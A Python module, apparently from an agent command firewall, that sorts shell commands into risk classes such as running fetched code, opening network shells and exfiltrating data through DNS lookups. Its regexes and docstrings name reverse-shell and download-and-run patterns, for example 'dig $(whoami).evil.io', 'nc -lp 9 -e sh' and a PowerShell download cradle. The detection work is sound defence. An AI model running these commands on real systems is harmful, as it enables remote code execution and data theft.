"""What parsed shell commands let an agent do, by capability class.

Each rule reads a command's structure: which program runs, what feeds its input (the
pipeline), what is substituted into it, where it writes. A class is decided by that shape,
not by a list of known payloads: any fetcher or decoder feeding any interpreter runs
fetched code, whatever the wrapping."""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from skillopt_sleep.firewall.shell import Command, base, unwrap

REACH_HOST = "reach_host"
RUN_FETCHED = "run_fetched_code"
OPEN_SHELL = "open_shell"
PERSIST = "persist"
READ_CREDENTIALS = "read_credentials"
BYPASS_CHECK = "bypass_check"

Found = tuple[str, str]
"""``(class, target)``."""

_SHELLS = {"sh", "bash", "zsh", "dash", "ksh", "fish", "csh", "tcsh", "ash", "mksh", "cmd"}
_INTERPRETERS = _SHELLS | {"perl", "ruby", "node", "nodejs", "deno", "bun", "php", "pwsh",
                           "powershell", "lua", "osascript", "tclsh", "rscript", "r", "iex",
                           "invoke-expression", "source", ".", "eval"}
_FETCHERS = {"curl", "wget", "fetch", "iwr", "invoke-webrequest", "irm", "invoke-restmethod",
             "aria2c", "http", "https", "xh", "lwp-download", "lynx", "ftp", "tftp"}
_DECODERS = {"base64", "b64", "xxd", "openssl", "gunzip", "zcat", "bzcat", "xzcat", "rev",
             "uudecode", "base32", "basenc", "gzip", "tr"}
_NET = {"nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp", "sftp", "rsync", "ftp"}
_SCRIPT = re.compile(r"[/$]|\.(?:sh|bash|zsh|py|pl|rb|js|mjs|cjs|ts|php|ps1|lua)$|^<\(")
_INLINE = {"-c", "-e", "-r", "-command", "-enc", "-encodedcommand", "-ec", "-m", "--eval",
           "-p", "--print", "-x", "-i", "-ic"}
_ENCODED_PS = re.compile(r"^-(?:e|ec|en|enc|enco|encod|encode|encoded|encodedc\w*)$", re.I)
_DECODE_IN_CODE = re.compile(
    r"b64decode|base64|frombase64string|decode\(|fromcharcode|atob\(|unhexlify|bytes\.fromhex"
    r"|zlib|marshal\.loads|codecs\.decode|rot.?13|\\x[0-9a-f]{2}|pack\(|urlopen|urllib|requests"
    r"|\bhttp|downloadstring|webclient|invoke-webrequest|\biwr\b|\birm\b|fetch\(", re.I)
_RUN_IN_CODE = re.compile(r"\b(?:exec|eval|iex|invoke-expression|system|function|spawn"
                          r"|popen|subprocess|compile|dofile|loadstring)\b|\bsource\s*\(", re.I)
_SOCKET_IN_CODE = re.compile(r"socket|fsockopen|tcpsocket|tcpclient|net\.sockets|/dev/tcp", re.I)
_SHELL_IN_CODE = re.compile(r"dup2|pty\.spawn|/bin/\w*sh|cmd\.exe|subprocess|popen|exec|system"
                            r"|spawn|getstream|iex", re.I)


_VERSIONED = re.compile(r"(?:python|pypy|perl|ruby|php)[0-9.]*")


def _is_interpreter(cmd: Command) -> bool:
    return base(cmd.program) in _INTERPRETERS or bool(_VERSIONED.fullmatch(base(cmd.program)))


def _runs_stdin(cmd: Command) -> bool:
    """Does this interpreter run what its standard input brings? (``python3 -m json.tool``
    and ``python3 -c '…'`` read it as data.)"""
    if base(cmd.program) in ("iex", "invoke-expression", "source", ".", "eval"):
        return True
    for arg in cmd.args:
        low = arg.lower()
        if low in ("-", "/dev/stdin", "-s"):
            return True
        if low in _INLINE or low.startswith("--"):
            return False
        if not low.startswith("-"):
            return not _SCRIPT.search(arg)
    return True


def _is_fetcher(cmd: Command) -> bool:
    prog = base(cmd.program)
    if prog in _FETCHERS or _downloads(cmd):
        return True
    if prog in ("nc", "ncat", "netcat", "socat", "telnet"):
        return True
    return prog == "git" and cmd.args[:1] == ("show",) and any("://" in a for a in cmd.args)


def _is_decoder(cmd: Command) -> bool:
    prog, args = base(cmd.program), [a.lower() for a in cmd.args]
    if prog in ("base64", "b64", "base32", "basenc"):
        return any(a in ("-d", "--decode", "-D", "-di") or a.startswith("-d") for a in args)
    if prog == "xxd":
        return "-r" in args or "-rp" in args
    if prog == "openssl":
        return "-d" in args or "-base64" in args or "base64" in args
    if prog in ("gzip", "tr", "rev"):
        return prog != "gzip" or "-d" in args
    return prog in _DECODERS


_URL = re.compile(r"^[a-z][\w+.-]*://", re.I)
_LOCAL_FILE = re.compile(r"[/%$~]|\.\w{1,4}$")


def _downloads(cmd: Command) -> str:
    """A file any program writes from a URL it is given (``certutil -urlcache -f URL out``,
    ``bitsadmin /transfer j URL out``): the local path that follows the URL."""
    if not any("://" in w for w in cmd.words):
        return ""  # the common case, first: no URL, no download
    if _is_interpreter(cmd) or base(cmd.program) in _FETCHERS | {"git", "open", "xdg-open",
                                                                 "start"}:
        return ""
    args = [a for a in cmd.args if not a.startswith(("-", "/")) or _LOCAL_FILE.search(a[1:])]
    urls = [i for i, a in enumerate(args) if _URL.match(a)]
    after = [a for a in args[urls[0] + 1:] if not _URL.match(a)] if urls else []
    return after[-1] if after and _LOCAL_FILE.search(after[-1]) else ""


def _target(cmds: Sequence[Command]) -> str:
    """What a fetch or decode reaches: the first URL or host among its words."""
    for cmd in cmds:
        for word in cmd.args:
            m = re.search(r"[a-z][\w+.-]*://([^/\s'\"]+)", word, re.I)
            if m:
                return m.group(1).lower()
    return "decoded content" if any(_is_decoder(c) for c in cmds) else "fetched content"


def run_fetched(cmds: Sequence[Command]) -> Iterator[Found]:
    """Fetched or decoded content run by any interpreter: piped, substituted, staged in a
    file, or carried inline as encoded code."""
    fetched_files: set[str] = set()
    for cmd in cmds:
        feeders = [c for c in cmd.upstream if _is_fetcher(c) or _is_decoder(c)]
        if feeders and _is_interpreter(cmd) and _runs_stdin(cmd):
            yield RUN_FETCHED, _target(feeders)
        subs = [c for c in cmd.inner if _is_fetcher(c) or _is_decoder(c)]
        if subs and (_is_interpreter(cmd) or base(cmd.program) in ("eval", "exec")):
            yield RUN_FETCHED, _target(subs)
        if _is_fetcher(cmd) and any("://" in a for a in cmd.args):
            fetched_files.update(_outputs(cmd) or {"*"})
        elif fetched_files and _runs_file(cmd, fetched_files):
            yield RUN_FETCHED, _target([c for c in cmds if _is_fetcher(c)])
        yield from _inline_code(cmd)
        if _runs_package(cmd) or _applies_url(cmd):
            yield RUN_FETCHED, _target([cmd])
    yield from _powershell_cradle(cmds)


_RUNNERS = {"npx", "bunx", "uvx", "pnpx", "pnpm", "yarn", "pipx", "deno", "npm"}
_RUNNER_VERB = {"pnpm": "dlx", "yarn": "dlx", "pipx": "run", "deno": "run", "npm": "exec"}


_INSTALLERS = {"pip", "pip3", "uv", "pipx", "npm", "pnpm", "yarn", "bun", "gem", "cargo",
               "conda", "mamba", "composer", "install-package", "install-module", "choco",
               "winget", "brew", "dotnet", "nuget", "r"}


def _runs_package(cmd: Command) -> bool:
    """A package runner handed a URL: it downloads code and runs it (``npx https://…``); a
    package installed from a URL runs its build and install scripts (``pip install URL``)."""
    prog, args = base(cmd.program), [a for a in cmd.args if not a.startswith("-")]
    if prog in _INSTALLERS and {"install", "add", "i"} & set(args) and any(
            "://" in a or a.startswith(("git+", "github:")) for a in args):
        return True
    if prog in ("%run", "%load", "source", ".", "%%script"):
        return any("://" in a for a in args)
    if prog not in _RUNNERS or (prog in _RUNNER_VERB and args[:1] != [_RUNNER_VERB[prog]]):
        return False
    return any("://" in a or a.startswith(("git+", "github:", "gist:")) for a in args)


# The option by which a tool takes the file it acts on or installs from (``kubectl apply -f``,
# ``pip install -r``, ``helm install -f``, ``docker compose -f``): given a URL, what the
# remote side serves is what runs.
_FILE_OPTION = re.compile(r"^(?:-f|--filename|--file|-r|--requirement|-c|--constraint|--values"
                          r"|-k|--kustomize|--script|-file|-scriptpath)(?:=(.*))?$", re.I)


def _applies_url(cmd: Command) -> bool:
    if _is_fetcher(cmd) or base(cmd.program) in ("git", "ssh", "scp"):
        return False
    args = cmd.args
    for i, arg in enumerate(args):
        m = _FILE_OPTION.match(arg)
        value = (m.group(1) or (args[i + 1] if i + 1 < len(args) else "")) if m else ""
        if _URL.match(value) and not value.lower().startswith(("file:", "s3:")):
            return True
    return False


def run_downloaded(cmds: Sequence[Command]) -> Iterator[Found]:
    """A file a fetcher wrote, run later by name: the strict reading for commands spread
    over a document (``curl -o run.sh URL`` in one step, ``bash run.sh`` in the next)."""
    files: set[str] = set()
    fetchers: list[Command] = []
    for cmd in cmds:
        if _is_fetcher(cmd) and any("://" in a for a in cmd.args):
            files.update(_outputs(cmd) - {"-", "/dev/null"})
            fetchers.append(cmd)
            continue
        names = [w.lstrip("./") for w in unwrap(cmd.words)]
        if files and names and (names[0] in files or (_is_interpreter(cmd) and any(
                n in files for n in names[1:]))):
            yield RUN_FETCHED, _target(fetchers)


_PS_RUN = {"iex", "invoke-expression", "invoke-command", "icm", "&", "."}
_PS_FETCH = re.compile(r"invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|downloadstring"
                       r"|downloadfile|net\.webclient|start-bitstransfer", re.I)


def _powershell_cradle(cmds: Sequence[Command]) -> Iterator[Found]:
    """``IEX (iwr …).Content``: PowerShell runs what a fetch returns, however bracketed."""
    words = [w.strip("()'\";").lower() for c in cmds for w in c.words]
    runs = _PS_RUN & set(words) or any("scriptblock]::create" in w for w in words)
    if runs and any(_PS_FETCH.search(w) for w in words):
        hosts = [re.search(r"://([^/\s'\")]+)", w) for w in words]
        yield RUN_FETCHED, next((h.group(1) for h in hosts if h), "fetched content")


def _outputs(cmd: Command) -> set[str]:
    names = {t for op, t in cmd.redirects if ">" in op}
    if _downloads(cmd):
        names.add(_downloads(cmd))
    args = list(cmd.args)
    # Short options cluster (``-sSo FILE``, ``-fsSLO``): the last letter takes the value.
    clustered = [a for a in args if re.fullmatch(r"-[a-zA-Z]+", a)]
    for i, arg in enumerate(args[:-1]):
        if arg in ("-o", "-O", "--output", "--output-document", "-OutFile", "-outfile") or (
                arg in clustered and arg.endswith(("o", "O")) and len(arg) > 2
                and base(cmd.program) == ("wget" if arg.endswith("O") else "curl")):
            names.add(args[i + 1])
    if any(a == "--remote-name" or (a in clustered and "O" in a and base(cmd.program) == "curl")
           for a in args):
        names.update(a.rsplit("/", 1)[-1] for a in args if "://" in a)
    return {n.lstrip("./") for n in names}


def _runs_file(cmd: Command, files: set[str]) -> bool:
    """Does ``cmd`` run a downloaded file, or a local script once something was downloaded
    (an archive unpacked, then ``./x/install.sh``)?"""
    words = unwrap(cmd.words)
    if not words:
        return False
    names = [w.lstrip("./") for w in words]
    local = words[0].startswith("./") or (_is_interpreter(cmd) and any(
        _SCRIPT.search(w) and not w.startswith("/") for w in words[1:]))
    return names[0] in files or local or (_is_interpreter(cmd) and any(
        n in files for n in names[1:]))


def _inline_code(cmd: Command) -> Iterator[Found]:
    prog, args = base(cmd.program), cmd.args
    if prog in ("powershell", "pwsh", "powershell_ise") and any(
            _ENCODED_PS.match(a) for a in args):
        yield RUN_FETCHED, "encoded command"
        return
    code = " ".join(args)
    if not (_is_interpreter(cmd) or prog in ("powershell", "pwsh")):
        return
    if _RUN_IN_CODE.search(code) and _DECODE_IN_CODE.search(code):
        host = re.search(r"[a-z][\w+.-]*://([^/\s'\"]+)", code, re.I)
        yield RUN_FETCHED, host.group(1).lower() if host else "decoded content"


def open_shell(cmds: Sequence[Command]) -> Iterator[Found]:
    """A shell wired to the network (reverse or bind) or a listener anyone may connect to."""
    for cmd in cmds:
        target = _shell_or_listener(cmd, cmds)
        if target:
            yield OPEN_SHELL, target


_LISTEN = re.compile(r"-\w*[lec]\w*|--(?:listen|exec|sh-exec|lua-exec)")


def _shell_or_listener(cmd: Command, cmds: Sequence[Command]) -> str:
    prog, args = base(cmd.program), [a.lower() for a in cmd.args]
    words = " ".join([*args, *(t for _, t in cmd.redirects)])
    if "/dev/tcp/" in words or "/dev/udp/" in words or (
            prog in ("nc", "ncat", "netcat") and any(_LISTEN.fullmatch(a) for a in args)) or (
            prog == "socat" and re.search(r"tcp\d?-listen|exec:|system:|pty", words)):
        return _port(words)
    if prog in ("ngrok", "cloudflared", "bore", "localtunnel", "lt") and args:
        return f"{prog} tunnel"
    if prog in _TERMINAL_SHARERS:
        return "a shared terminal"  # whoever holds the session's link types into this shell
    if {"tunnel", "funnel"} & set(args[:2]) or prog.endswith(("tunnel", "funnel")):
        return f"{prog} tunnel"  # ``code tunnel``, ``tailscale funnel``, ``devtunnel host``
    if _exposed_without_auth(args):
        return "a server on every interface without authentication"
    if prog == "ssh" and any(a.startswith("-R") for a in cmd.args):
        return "ssh remote forward"
    if _serves_shell(prog, args):
        return _port(words)
    coded = _is_interpreter(cmd) or prog in ("powershell", "pwsh")
    if coded and _SOCKET_IN_CODE.search(words) and _SHELL_IN_CODE.search(words):
        return _port(words)
    if prog in _SHELLS and _networked(cmd, cmds):
        return "network to shell"
    return ""


_TERMINAL_SHARERS = {"tmate", "upterm", "sshx", "teleconsole", "gotty", "tty-share", "wetty",
                     "shellinaboxd", "ttyd"}
_EVERY_INTERFACE = re.compile(r"^--?(?:ip|host|bind|listen|address|addr|hostname)(?:="
                              r"|$)(?:0\.0\.0\.0"
                              r"|::|\*)?(?::\d+)?$|^--bind[_-]all$|^(?:0\.0\.0\.0|::|\*)(?::\d+)?$")
_NO_AUTH = re.compile(r"(?:token|password|passwd|auth\w*)=(?:''|\"\"|none|false|0|)$|^--no-?auth"
                      r"|^--(?:disable|without|skip)-auth\w*|^--allow-unauthenticated$"
                      r"|^--auth(?:=|\s+)none$|^--insecure$", re.I)


def _exposed_without_auth(args: list[str]) -> bool:
    """Listening on every interface with its login switched off (``jupyter lab --ip=0.0.0.0
    --NotebookApp.token=''``): anyone who reaches the port runs code."""
    joined = [f"{a}={b}" if a.startswith("-") and "=" not in a and b[:1] not in ("-", "")
              else a for a, b in zip(args, [*args[1:], ""], strict=False)]
    return any(_EVERY_INTERFACE.match(a) and ("0.0.0.0" in a or "::" in a or "*" in a
                                              or "all" in a) for a in joined) and any(
        _NO_AUTH.search(a) for a in args)


_SHELL_PATH = re.compile(r"^(?:/(?:usr/)?bin/|[a-z]:/windows/system32/)?(?:ba|z|da|k|a|c)?sh$"
                         r"|^(?:[\w:/.]*/)?(?:cmd|powershell|pwsh)(?:\.exe)?$", re.I)
# Programs that run a shell for the caller on this machine's own terminal or in a container.
_LOCAL_RUNNERS = {"docker", "podman", "nerdctl", "kubectl", "lxc", "vagrant", "script", "su",
                  "sudo", "tmux", "screen", "chsh", "usermod", "useradd", "expect"}


def _serves_shell(prog: str, args: list[str]) -> bool:
    """A program handed a shell to run and a port to serve it on (``telnetd -l /bin/sh
    -p 23``, ``busybox nc -lp 9 -e sh``): whoever connects gets the shell."""
    if prog in _LOCAL_RUNNERS or prog in _SHELLS:
        return False
    shell = any(_SHELL_PATH.match(a) for a in args)
    port = any(a in ("-p", "--port") or re.fullmatch(r"(?:-p|--port=?|:)\d{1,5}", a)
               or re.search(r"(?:tcp|udp)\S*:\d{1,5}", a) for a in args)
    return shell and port


_LOOKUPS = {"dig", "nslookup", "host", "ping", "ping6", "drill", "resolvectl", "getent",
            "traceroute", "resolve-dnsname", "test-connection"}
_SMUGGLED = re.compile(r"(?:\$\(|`|\$\{?\w).*?[)}`\w]\.((?:[a-z0-9-]+\.)+[a-z]{2,})\.?$", re.I)


_HOSTLIKE = re.compile(r"^(?:[\w.-]+@)?((?:\d{1,3}\.){3}\d{1,3}|(?:[a-z0-9-]+\.)+[a-z]{2,})"
                       r"(?::[\w/.~-]*)?$", re.I)


def reached(cmds: Sequence[Command]) -> Iterator[Found]:
    """Hosts a network command is pointed at, whatever their top-level domain."""
    for cmd in cmds:
        if base(cmd.program) not in _LOOKUPS | _NET:
            continue
        for word in cmd.args:
            m = _HOSTLIKE.match(word)
            if m and not word.startswith("-") and not re.search(
                    r"\.(?:sh|py|txt|json|ya?ml|log|pem|key|pub|tgz|gz|zip|tar)$", word, re.I):
                host = m.group(1).lower()
                if host not in ("localhost", "127.0.0.1", "0.0.0.0") and not host.endswith(
                        (".local", ".test", ".internal", ".example", ".localhost")):
                    yield REACH_HOST, host


def smuggled(cmds: Sequence[Command]) -> Iterator[Found]:
    """Data carried out in a name a network command resolves: ``dig $(whoami).evil.io``."""
    for cmd in cmds:
        if base(cmd.program) not in _LOOKUPS | _FETCHERS | _NET:
            continue
        for word in cmd.args:
            m = _SMUGGLED.search(word.split("://", 1)[-1].split("/", 1)[0])
            if m:
                yield REACH_HOST, f"{m.group(1).lower()} (carrying data)"


def _networked(shell: Command, cmds: Sequence[Command]) -> bool:
    """Is a shell's input or output wired to a network client in the same pipeline?"""
    return any(_client(c) for c in shell.upstream) or any(
        shell in c.upstream and _client(c) for c in cmds)


def _client(cmd: Command) -> bool:
    """A program that carries its input and output over a network connection."""
    prog = base(cmd.program)
    return prog in ("nc", "ncat", "netcat", "telnet", "socat") or (
        prog == "openssl" and bool({"s_client", "s_server"} & set(cmd.args)))


def _port(words: str) -> str:
    m = re.search(r"(?:/dev/(?:tcp|udp)/|:|\s|-p\s*|listen:)(\d{2,5})\b", words)
    return f"port {m.group(1)}" if m else "a network port"
